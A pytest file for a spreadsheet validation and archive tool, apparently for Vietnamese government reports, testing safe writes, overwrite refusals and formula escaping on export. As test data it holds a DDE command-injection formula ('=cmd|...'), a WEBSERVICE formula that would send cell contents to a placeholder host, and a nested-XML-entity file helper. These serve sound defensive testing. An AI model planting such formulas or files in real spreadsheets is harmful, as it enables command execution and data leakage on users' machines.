"""egov-xl never writes through an input: outputs are compared with inputs as files (a hard
link is the same file), written to a temporary file and renamed; exports do not overwrite
unless asked, and refuse formats they do not write."""

from __future__ import annotations

import csv
import hashlib
import os
from pathlib import Path

from openpyxl import load_workbook
from typer.testing import CliRunner

from egov_xl.cli import app
from egov_xl.output.files import OutputExistsError, SameFileError, write_file

runner = CliRunner()


def run(*args, env=None):
    return runner.invoke(app, [str(a) for a in args], env={"COLUMNS": "200", **(env or {})})


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_annotate_to_a_hard_link_of_the_input_is_refused(samples, tmp_path):
    source = tmp_path / "in.xlsx"
    source.write_bytes(samples["phu-luc-vii-seed.xlsx"].read_bytes())
    os.link(source, tmp_path / "hard.xlsx")
    before = digest(source)
    result = run("validate", source, "--annotate", tmp_path / "hard.xlsx")
    assert result.exit_code == 2
    assert "trùng tệp đầu vào" in result.output
    assert digest(source) == before


def test_fill_to_a_hard_link_of_the_input_is_refused(samples, tmp_path):
    source = tmp_path / "in.xlsx"
    source.write_bytes(samples["phu-luc-vii-dung.xlsx"].read_bytes())
    os.link(source, tmp_path / "hard.xlsx")
    before = digest(source)
    result = run("templates", "fill", source, "-o", tmp_path / "hard.xlsx", "--no-recalc")
    assert result.exit_code == 2 and "trùng tệp đầu vào" in result.output
    assert digest(source) == before


def test_a_write_replaces_a_link_instead_of_writing_through_it(tmp_path):
    other = tmp_path / "other.txt"
    other.write_text("kept")
    os.link(other, tmp_path / "out.txt")
    write_file(tmp_path / "out.txt", lambda path: path.write_text("new"))
    assert other.read_text() == "kept" and (tmp_path / "out.txt").read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.txt", "out.txt"]  # no temporary left


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("old")

    def fail(path: Path) -> None:
        path.write_text("half")
        raise OSError(28, "No space left on device")

    try:
        write_file(target, fail)
    except OSError as exc:
        assert exc.errno == 28
    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]


def test_write_file_refuses_inputs_and_existing_files(tmp_path):
    source = tmp_path / "a.txt"
    source.write_text("a")
    for call, error in ((lambda: write_file(tmp_path / "." / "a.txt", print, inputs=[source]), SameFileError),
                        (lambda: write_file(source, print, overwrite=False), OutputExistsError)):
        try:
            call()
        except error:
            pass
        else:
            raise AssertionError(f"{error.__name__} not raised")
    assert source.read_text() == "a"


def _archive_with_formula_text(samples, tmp_path) -> str:
    from tests.security.hostile import formula_form

    url = f"sqlite:///{tmp_path / 'kho.sqlite3'}"
    source = formula_form(samples["phu-luc-vii-dung.xlsx"], tmp_path)
    assert run("archive", "init", "--url", url).exit_code == 0
    # a unit code may no longer hold "=" (core/unit_codes.py): the formula text rides in its name
    assert run("archive", "unit", "TINH", "--name", "Tỉnh", "--url", url).exit_code == 0
    assert run("archive", "unit", "SO-X", "--name", "=cmd|'x'!A0", "--parent", "TINH", "--url", url).exit_code == 0
    result = run("archive", "put", source, "--unit", "SO-X", "--period", "Quý I 2024",
                 "--force", "kiểm thử", "--url", url)
    assert result.exit_code == 0, result.output
    return url


def test_export_refuses_an_existing_file_unless_asked(samples, tmp_path):
    url = _archive_with_formula_text(samples, tmp_path)
    target = tmp_path / "existing.csv"
    target.write_text("giữ nguyên")
    refused = run("archive", "export", "-o", target, "--url", url)
    assert refused.exit_code == 2 and "--overwrite" in refused.output
    assert target.read_text() == "giữ nguyên"
    assert run("archive", "export", "-o", target, "--overwrite", "--url", url).exit_code == 0
    rows = list(csv.DictReader(target.open(encoding="utf-8-sig")))
    fields = [f for row in rows for f in row.values()]
    assert rows and not [f for f in fields if f[:1] in ("=", "+", "@") or (f[:1] == "-" and not f[1:2].isdigit())]
    assert "'=WEBSERVICE(\"http://127.0.0.1:9/?\"&A1)" in fields and "'=cmd|'x'!A0" in fields


def test_export_formats(samples, tmp_path):
    url = _archive_with_formula_text(samples, tmp_path)
    unknown = run("archive", "export", "-o", tmp_path / "out.xls", "--format", "xls", "--url", url)
    assert unknown.exit_code == 2 and "xls" in unknown.output and not (tmp_path / "out.xls").exists()
    assert run("archive", "export", "-o", tmp_path / "out.xlsx", "--format", "xlsx", "--url", url).exit_code == 0
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    header = [c.value for c in sheet[1]]
    assert "=cmd|'x'!A0" in [c.value for c in sheet[2]] and isinstance(sheet.cell(2, header.index("number") + 1).value, float | type(None))


def test_export_under_a_file_is_one_sentence(samples, tmp_path):
    url = _archive_with_formula_text(samples, tmp_path)
    (tmp_path / "a-file").write_text("x")
    result = run("archive", "export", "-o", tmp_path / "a-file" / "out.csv", "--url", url)
    assert result.exit_code == 2 and "Không ghi được tệp" in result.output
    assert "Unexpected error" not in result.output and "Traceback" not in result.output


def test_batch_gives_each_file_its_answer(samples, tmp_path):
    import json

    long_field = tmp_path / "dai.csv"
    long_field.write_text("STT,Chỉ tiêu\n1," + "x" * 200_000 + "\n", encoding="utf-8")
    result = run("validate", samples["phu-luc-vii-dung.xlsx"], long_field, samples["bieu-mau-7-dung.xlsx"],
                 "--format", "json")
    assert result.exit_code == 2
    files = json.loads(result.stdout)["files"]
    assert [Path(f["path"]).name for f in files] == ["phu-luc-vii-dung.xlsx", "dai.csv", "bieu-mau-7-dung.xlsx"]
    assert f'Không đọc được tệp "{long_field}"' in files[1]["error"]


def test_annotate_a_csv_writes_an_xlsx_copy(samples, tmp_path):
    book = load_workbook(samples["phu-luc-vii-seed.xlsx"])
    source = tmp_path / "bao-cao.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([["" if v is None else v for v in row] for row in book.active.iter_rows(values_only=True)])
    result = run("validate", source, "--annotate", tmp_path / "ra.csv")
    assert result.exit_code == 1, result.output
    copy = load_workbook(tmp_path / "ra.xlsx")
    assert copy.sheetnames == ["bao-cao", "Kiểm tra"]
    assert any(c.comment for row in copy["bao-cao"].iter_rows() for c in row)
    assert not (tmp_path / "ra.csv").exists()


# review: outputs never over another input or the archive; every kind of input gets its copy ----

def test_a_copy_in_a_folder_is_never_written_over_another_input(samples, tmp_path):
    """Before: `validate a.xlsx a.kiem-tra.xlsx --annotate .` wrote a's copy over the second
    input, then read and reported that copy as if it were the clerk's file. --stamp alike."""
    folder = tmp_path / "nop"
    folder.mkdir()
    first = folder / "a.xlsx"
    first.write_bytes(samples["bieu-mau-7-seed.xlsx"].read_bytes())
    for option, name in (("--annotate", "a.kiem-tra.xlsx"), ("--stamp", "a.da-kiem-tra.xlsx")):
        other = folder / name  # another clerk's report that happens to carry that name
        other.write_bytes(samples["bieu-mau-7-dung.xlsx"].read_bytes())
        before = digest(other)
        result = run("validate", first, other, option, folder, "--format", "json")
        assert result.exit_code == 2, result.output
        assert f'"{other}" trùng tệp đầu vào' in result.output.replace("\n", "")
        assert digest(other) == before
        import json

        reports = json.loads(result.stdout)["files"]
        assert [r["summary"]["errors"] for r in reports][1] == 0  # the second input was read as it was


def test_consolidate_and_export_never_write_over_the_archive(samples, tmp_path):
    """Before: `consolidate -o archive.sqlite3` replaced the SQLite archive (every revision) by
    an .xlsx, and `archive export -o archive.sqlite3 --overwrite` by a CSV."""
    url = _archive_with_formula_text(samples, tmp_path)
    database = Path(url.removeprefix("sqlite:///"))
    os.link(database, tmp_path / "lien-ket.db")
    before = digest(database)
    targets = [database, tmp_path / "lien-ket.db", Path(f"{database}-wal"), tmp_path / ".." / tmp_path.name / database.name]
    for target in targets:
        exported = run("archive", "export", "-o", target, "--overwrite", "--url", url)
        assert exported.exit_code == 2 and "là tệp của kho lưu trữ" in exported.output, exported.output
        summed = run("consolidate", "--unit", "TINH", "--period", "Quý I 2024", "-o", target, "--url", url)
        assert summed.exit_code == 2 and "là tệp của kho lưu trữ" in summed.output, summed.output
    assert digest(database) == before
    assert run("archive", "verify", "--url", url).exit_code == 0


def test_export_writes_the_kind_its_name_says(samples, tmp_path):
    """Before: `archive export -o so-lieu.xlsx` (no --format) wrote CSV text into the .xlsx."""
    url = _archive_with_formula_text(samples, tmp_path)
    for name, magic in (("so-lieu.xlsx", b"PK"), ("so-lieu.parquet", b"PAR1"), ("so-lieu.txt", b"\xef\xbb\xbfunit")):
        assert run("archive", "export", "-o", tmp_path / name, "--url", url).exit_code == 0
        assert (tmp_path / name).read_bytes().startswith(magic), name


def test_annotate_gives_every_kind_of_input_an_xlsx_copy(samples, tmp_path):
    """Before: --annotate on an .ods, .docx or .xls ended in "Lỗi không mong đợi" (openpyxl
    opens only .xlsx/.xlsm)."""
    from tests.fixtures.formats import write_docx
    from tests.fixtures.renditions import BM7_SEED, parse_seed

    source = write_docx(tmp_path / "bao-cao.docx", parse_seed(BM7_SEED))
    result = run("validate", source, "--annotate", tmp_path / "ra.docx")
    assert result.exit_code == 1, result.output
    assert "Unexpected error" not in result.output and "không mong đợi" not in result.output
    copy = load_workbook(tmp_path / "ra.xlsx")
    assert copy.sheetnames == ["Bảng 1", "Kiểm tra"]
    assert any(c.comment for row in copy["Bảng 1"].iter_rows() for c in row)
    both = run("validate", source, samples["bieu-mau-7-seed.xlsx"], "--annotate", tmp_path / "ra")
    assert sorted(p.name for p in (tmp_path / "ra").iterdir()) == ["bao-cao-docx.kiem-tra.xlsx",
                                                                  "bieu-mau-7-seed.kiem-tra.xlsx"], both.output


def test_annotate_a_package_openpyxl_cannot_load_is_one_sentence(samples, tmp_path):
    """Before: nested entities in docProps/core.xml (read by openpyxl only, not calamine) ended
    --annotate in "Lỗi không mong đợi / Unexpected error: XMLSyntaxError"."""
    from tests.security.hostile import with_nested_entities_in_core_props

    source = with_nested_entities_in_core_props(samples["bieu-mau-7-seed.xlsx"], tmp_path / "hong.xlsx")
    result = run("validate", source, "--annotate", tmp_path / "ra.xlsx")
    assert result.exit_code == 2
    assert f'Không đọc được tệp "{source}": tệp bị hỏng' in result.output.replace("\n", " ")
    assert "Unexpected error" not in result.output and not (tmp_path / "ra.xlsx").exists()
